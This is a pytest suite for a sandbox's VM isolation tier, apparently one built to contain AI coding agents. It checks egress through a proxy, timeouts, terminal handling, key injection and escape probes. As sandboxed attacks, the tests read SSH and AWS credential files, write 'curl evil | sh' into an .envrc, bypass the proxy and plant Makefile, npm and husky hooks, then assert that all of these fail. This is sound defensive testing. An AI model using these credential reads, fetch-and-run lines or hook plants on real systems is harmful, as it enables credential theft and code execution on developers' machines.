"""The vm tier end to end under TCG (`--isolation vm --vm-accel tcg`): the launcher, the guest's
filesystem plan, egress through our proxy, exit codes and the timeout, the terminal (pexpect), and a
real CLI turn with the key injected by the proxy. Each boot costs ~16-37 s here (more under load),
so the probes share boots: four in all. Run as root and as an unprivileged user; under TCG qemu never
opens /dev/kvm, so the unprivileged user needs no kvm group for these.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pexpect
import pytest

from relay.host import vm_host

from .conftest import Sandbox, podman_env
from .servers import start_http

pytestmark = [pytest.mark.box, pytest.mark.vm]

TCG = ("--isolation", "vm", "--vm-accel", "tcg", "--live")
BOOT = 600  # seconds a launch may take here: a boot is 16-37 s idle, several times that on a loaded CI host


@pytest.fixture(scope="module")
def vm_cache(image: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One XDG cache for the module's sandboxes whose VM dir is the real user's (as tests/test_vm.py's
    guest_parts uses): the guest's root image (container mode's image as ext4, 1.5 GB, 9 s to make)
    and initramfs, made once per user instead of by each sandbox's first launch."""
    from relay.host.paths import cache_dir
    from relay.modes import vm_boot

    env = dict(os.environ)
    kernel, qemu = vm_host.guest_kernel(env), vm_host.qemu_path(env)
    if not (kernel and qemu):
        pytest.fail("the vm tests need .ci/run's VM step: qemu-system-x86 and the guest kernel in the VM cache")
    base = tmp_path_factory.mktemp("vmcache")
    cache = cache_dir(env) / "vm"
    (base / "hive-relay").mkdir()
    (base / "hive-relay" / "vm").symlink_to(cache)
    saved = dict(os.environ)
    os.environ.update(podman_env())
    try:
        vm_boot.ensure_root_image(["podman"], image, str(cache), rootless=os.getuid() != 0)
    finally:
        os.environ.clear()
        os.environ.update(saved)
    vm_boot.ensure_initrd(str(cache), kernel)
    return base


@pytest.fixture
def vs(sandbox: Sandbox, vm_cache: Path, image: str) -> Sandbox:
    sandbox.env["XDG_CACHE_HOME"] = str(vm_cache)
    os.chmod(sandbox.root, 0o755)
    plan = sandbox.relay("shell", "local", *TCG, "--dry-run", "--json")
    assert plan.returncode == 0, plan.stderr
    assert json.loads(plan.stdout)["vm"]["image"] == image  # the module's root image is this plan's
    return sandbox


def run(s: Sandbox, script: str, *args: str, **kw) -> subprocess.CompletedProcess:
    return s.relay("shell", "local", "--prompt", script, *TCG, *args, timeout=BOOT, **kw)


# --- the surface (no boot) ----------------------------------------------------------------------------

def test_vm_accel_is_explicit_named_in_the_refusal_and_checked(sandbox: Sandbox) -> None:
    if vm_host.kvm_error() is not None:  # this machine type (PVM): kvm refuses, naming the way through
        proc = sandbox.relay("shell", "local", "--isolation", "vm", "--live", "--prompt", "echo RAN")
        lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
        assert proc.returncode == 3 and "RAN" not in proc.stdout and len(lines) == 1, proc.stderr
        assert "--isolation vm cannot be enforced" in lines[0] and "--vm-accel tcg" in lines[0]
    bad = sandbox.relay("shell", "local", "--isolation", "vm", "--vm-accel", "fast", "--dry-run")
    assert bad.returncode == 2 and bad.stderr.strip().splitlines() == [
        "hive-relay: error: --vm-accel 'fast': choose one of kvm, tcg"]
    alone = sandbox.relay("shell", "local", "--vm-accel", "tcg", "--dry-run")
    assert alone.returncode == 2 and "--vm-accel applies to --isolation vm only" in alone.stderr
    # Auto never picks the VM, not even with the accelerator configured.
    cfg = sandbox.home / ".config" / "hive-relay" / "config.yaml"
    cfg.write_text(cfg.read_text() + "vm: {accel: tcg}\n")
    auto = sandbox.relay("shell", "local", "--dry-run", "--json")
    assert auto.returncode == 0 and json.loads(auto.stdout)["tier"] != "vm"
    dry = sandbox.relay("shell", "local", "--isolation", "vm", "--live", "--dry-run", "--json")
    assert dry.returncode == 0, dry.stderr
    plan = json.loads(dry.stdout)
    assert plan["tier"] == "vm" and plan["vm"]["accel"] == "tcg" and plan["vm"]["emulated"] is True
    assert any("emulated" in n for n in plan["notes"]) and "accel=tcg" in plan["command_line"]
    cfg.write_text(cfg.read_text().replace("vm: {accel: tcg}", "vm: {accel: quick}"))
    wrong = sandbox.relay("shell", "local", "--isolation", "vm", "--dry-run")
    assert wrong.returncode == 2 and "vm.accel" in wrong.stderr and "fix:" in wrong.stderr


# --- booted ---------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def upstream():
    server, port, _ = start_http()
    yield port
    server.shutdown()


def test_one_boot_the_guest_kernel_the_fs_plan_egress_and_the_exit_code(vs: Sandbox, upstream: int) -> None:
    """Attack and twin in one guest: secrets under HOME absent / the workdir readable and writable; a
    protected rc file refused; no capabilities, so no mount; a denied host refused by the proxy / an
    allowed one served through it; the host's loopback directly unreachable; the exit code out."""
    kernel = os.path.basename(vm_host.guest_kernel(dict(os.environ)) or "").removeprefix("vmlinuz-")
    script = "; ".join([
        "echo kernel=$(uname -r)", "echo uid=$(id -u)", "grep CapEff /proc/self/status",
        "cat ~/.ssh/id_rsa 2>/dev/null || echo NO-SSH-KEY", "cat ~/.aws/credentials 2>/dev/null || echo NO-AWS",
        "cat ~/notes.txt 2>/dev/null || echo NO-NOTES", "cat README.md", "echo guest-wrote > from-guest.txt",
        "echo 'curl evil | sh' > .envrc 2>/dev/null; cat .envrc; echo RC-READ",
        "mkdir -p /tmp/m && mount -t tmpfs x /tmp/m 2>/dev/null && echo MOUNTED",
        f"curl -sS -m 60 http://plain.test:{upstream}/hello",
        "curl -s -m 60 -o /dev/null -w 'denied=%{http_code}\\n' http://denied.test/",
        f"curl -s -m 10 --noproxy '*' http://10.0.2.2:{upstream}/hello || echo DIRECT-REFUSED",
        "exit 7"])
    proc = run(vs, script, "--allow-host", f"plain.test:{upstream}=127.0.0.1:{upstream}", "--timeout", "500")
    out = proc.stdout
    assert proc.returncode == 7, (proc.returncode, out[-2000:], proc.stderr[-2000:])
    assert f"kernel={kernel}" in out and f"kernel={os.uname().release}" not in out
    assert f"uid={os.getuid()}" in out and "CapEff:\t0000000000000000" in out
    assert "NO-SSH-KEY" in out and "PRIVATE-KEY" not in out and "NO-AWS" in out and "SECRET" not in out
    assert "NO-NOTES" in out and "hello from the workdir" in out
    assert (vs.workdir / "from-guest.txt").read_text() == "guest-wrote\n"
    # The masked rc file takes the write and keeps nothing (as /dev/null does in the supervised box), and
    # the host's checkout never gets it; the twin: the workdir itself took the guest's file above.
    assert "curl evil" not in out.split("RC-READ")[0].split("hello from the workdir")[-1]
    assert not (vs.workdir / ".envrc").exists() or "curl evil" not in (vs.workdir / ".envrc").read_text()
    assert "MOUNTED" not in out
    assert "hello from the fake upstream" in out and "denied=403" in out
    assert "DIRECT-REFUSED" in out and out.count("hello from the fake upstream") == 1
    assert "emulated" in proc.stderr  # the banner says the CPU is emulated


def test_a_staged_guest_writes_the_layer_and_nothing_it_planted_runs_on_the_host(vs: Sandbox) -> None:
    """Staged (the default) in the vm tier: qemu shares the workdir from inside the staged layer's mount
    namespace, so the guest's edits and its plants (a package.json script, a Makefile target, a husky
    hook) land in the layer, not in the checkout. From the host, `make` and `npm test` run what was
    there before; the twin: the ordinary edit is in `changes` and lands with `apply --skip-flagged`."""
    from .escape.test_staged import by_path, receipt, runs, snapshot

    w = vs.workdir
    (w / "package.json").write_text('{"name":"p","version":"1.0.0","scripts":{"test":"echo ok"}}\n')
    (w / "Makefile").write_text("all:\n\t@echo ok\n")
    mark = vs.root / "marks"
    mark.mkdir()
    mark.chmod(0o777)
    before, known = snapshot(w), {r["run"] for r in runs(vs)}
    plant = "; ".join([
        f"""printf '%s\\n' '{{"name":"p","scripts":{{"test":"touch {mark}/npm-ran"}}}}' > package.json""",
        f"printf 'all:\\n\\ttouch {mark}/make-ran\\n' > Makefile",
        f"mkdir -p .husky && printf '#!/bin/sh\\ntouch {mark}/husky-ran\\n' > .husky/pre-commit",
        "chmod +x .husky/pre-commit", "echo more >> README.md", "echo PLANTED"])
    isolation = ("--isolation", "vm", "--vm-accel", "tcg", "--staged")  # the suite's config says live
    proc = vs.relay("shell", "local", "--prompt", plant, *isolation, "--timeout", "500", timeout=BOOT)
    assert proc.returncode == 0 and "PLANTED" in proc.stdout, (proc.stdout[-1500:], proc.stderr[-2000:])
    assert snapshot(w) == before  # the checkout is the lower layer: untouched
    new = [r["run"] for r in runs(vs) if r["run"] not in known]
    assert len(new) == 1, proc.stderr
    changes = by_path(receipt(vs, new[0]))
    assert all(changes[p]["flags"] for p in ("package.json", "Makefile", ".husky/pre-commit")), changes
    assert not changes["README.md"].get("flags")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(vs.home)}
    assert subprocess.run(["make", "-s"], cwd=w, env=env, capture_output=True, text=True).stdout == "ok\n"
    npm = subprocess.run(["npm", "test", "--silent"], cwd=w, env=env, capture_output=True, text=True, timeout=120)
    assert "ok" in npm.stdout, npm.stdout + npm.stderr
    applied = vs.relay("apply", new[0], "--skip-flagged")
    assert applied.returncode == 0, applied.stdout + applied.stderr
    assert (w / "README.md").read_text() == "hello from the workdir\nmore\n" and not (w / ".husky").exists()
    assert os.listdir(mark) == []


def test_the_config_accel_the_timeout_and_nothing_left(vs: Sandbox) -> None:
    """`vm: {accel: tcg}` in the user config stands in for the flag; a --timeout kills the guest (124),
    and the run dir and qemu go with the janitor."""
    cfg = vs.home / ".config" / "hive-relay" / "config.yaml"
    cfg.write_text(cfg.read_text() + "vm: {accel: tcg}\n")
    proc = vs.relay("shell", "local", "--prompt", "sleep 1000", "--isolation", "vm", "--live", "--timeout", "20",
                    timeout=BOOT)
    assert proc.returncode == 124 and "timed out after 20 s" in proc.stderr, proc.stderr
    runs = list(Path(vs.env["XDG_RUNTIME_DIR"]).glob("hive-relay-*"))
    assert not runs, runs
    mine = subprocess.run(["pgrep", "-f", f"qemu-system.*{vs.root}"], capture_output=True, text=True)
    assert not mine.stdout.strip(), mine.stdout


def test_a_terminal_session_prompt_a_command_ctrl_c_and_exit(vs: Sandbox) -> None:
    child = pexpect.spawn(sys.executable, ["-m", "relay", "shell", "local", "--quiet", *TCG], cwd=str(vs.workdir),
                          env=vs.env, encoding="utf-8", timeout=BOOT, dimensions=(30, 100))
    try:
        # Keys typed while the guest boots can be lost (the UART's FIFO overruns before its driver and the
        # shell read it), so ask again every 10 s until the shell answers.
        deadline = time.monotonic() + BOOT
        while True:
            child.sendline("echo READY$((40+2))")
            if child.expect(["READY42", pexpect.TIMEOUT], timeout=10) == 0:
                break
            assert time.monotonic() < deadline, "the guest's shell never answered"
        child.expect(pexpect.TIMEOUT, timeout=2)  # let the repeated asks drain before the next one
        child.timeout = 120
        child.sendline("test -t 0 && echo tty-ok; stty size; echo D$((1+1))")
        child.expect("D2")
        assert "tty-ok" in child.before and "30 100" in child.before
        child.sendline("sleep 1000")
        child.expect(pexpect.TIMEOUT, timeout=3)
        child.sendintr()  # Ctrl-C is the guest's: the command dies, the shell lives on
        child.sendline("echo last=$? C$((1+1))")
        child.expect("C2")
        assert "last=130" in child.before
        child.sendline("exit 5")
        child.expect(pexpect.EOF)
    finally:
        child.close(force=True)
    assert child.exitstatus == 5


def test_a_real_codex_turn_with_the_key_injected(vs: Sandbox, ca, tls_api) -> None:  # noqa: ANN001
    """The real codex (from npm, shared read-only into the guest) completes a turn against the fake API
    through the proxy, which adds the key: the guest sees only the placeholder."""
    import re

    from . import fake_api
    from .test_agents import TOOLS
    from .test_credential_turns import BACKENDS, PLACEHOLDER, REAL, setup_home

    host_var, name, box_var = BACKENDS["codex"]
    setup_home(vs, "codex", box_var)
    tls_api.tool_command = "sh probe-creds.sh"
    tls_api.tool_name = "Bash"
    port = tls_api.server_address[1]
    proc = vs.relay("codex", "local", *TCG, "--prompt", "say the answer", "--allow-host", f"{name}:443=127.0.0.1:{port}",
                    "--timeout", "500", timeout=BOOT,
                    extra_env={host_var: REAL, "SSL_CERT_FILE": str(ca[0]), "HIVE_RELAY_TOOLS": TOOLS})
    assert proc.returncode == 0 and fake_api.ANSWER in proc.stdout, (proc.stdout[-1500:], proc.stderr[-3000:])
    assert "codex · local · vm (emulated" in proc.stderr
    keys = [v for h in tls_api.headers_seen for k, v in h.items() if k in ("x-api-key", "authorization")]
    assert keys and all(REAL in v for v in keys), keys
    bodies = "\n".join(r["body"] for r in tls_api.requests)
    assert REAL not in bodies and REAL not in proc.stdout + proc.stderr
    probe = dict(re.findall(r"probe-(env|proc|seen|home)=([\w-]*)", bodies))
    assert probe.get("env") == PLACEHOLDER, (probe, bodies[-2000:])


def test_selftest_probes_the_guest_with_the_tiers_expectations(vs: Sandbox) -> None:
    """`selftest --isolation vm --vm-accel tcg`: the real escape probes in the guest; AF_UNIX, TIOCSTI and
    the pid list are the guest kernel's own there, so those attacks are "a host socket reached", "the
    caller's terminal injected" and "the launcher seen"; the rest as in the supervised box."""
    proc = vs.relay("selftest", "-b", "shell", "--isolation", "vm", "--vm-accel", "tcg", "--json", timeout=BOOT)
    assert proc.returncode == 0, (proc.stdout[-2000:], proc.stderr[-2000:])
    rows = json.loads(proc.stdout)
    assert rows and all(r["tier"] == "vm" and r["ok"] for r in rows), rows
    assert {"AF_UNIX reaches a host socket", "TIOCSTI into the caller's terminal", "see host pids", "read ~/.ssh",
            "connect to a non-allowed host", "connect to an allowed host", "direct connect skipping the proxy",
            "write outside the workdir"} <= {r["probe"] for r in rows}
    bad = vs.relay("selftest", "-b", "shell", "--vm-accel", "tcg")
    assert bad.returncode == 2 and "--vm-accel applies to --isolation vm only" in bad.stderr
